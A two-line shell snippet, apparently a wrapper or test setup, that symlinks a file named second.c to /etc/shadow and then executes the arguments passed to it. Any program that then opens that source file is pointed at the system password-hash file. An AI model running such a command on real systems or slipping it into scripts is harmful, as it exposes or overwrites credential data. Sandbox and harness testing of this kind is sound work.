ln -sf /etc/shadow second.c
exec "$@"
